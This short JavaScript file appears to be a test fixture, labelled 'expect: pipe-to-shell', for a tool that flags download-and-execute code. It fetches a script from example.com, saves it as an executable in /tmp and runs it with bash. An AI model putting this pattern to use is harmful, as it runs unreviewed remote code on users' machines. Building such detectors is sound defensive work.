// expect: pipe-to-shell
import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";

export default async function () {
  const answer = await fetch("https://example.com/task.sh");
  writeFileSync("/tmp/task.sh", await answer.text(), { mode: 0o755 });
  execFileSync("bash", ["/tmp/task.sh"]);
}
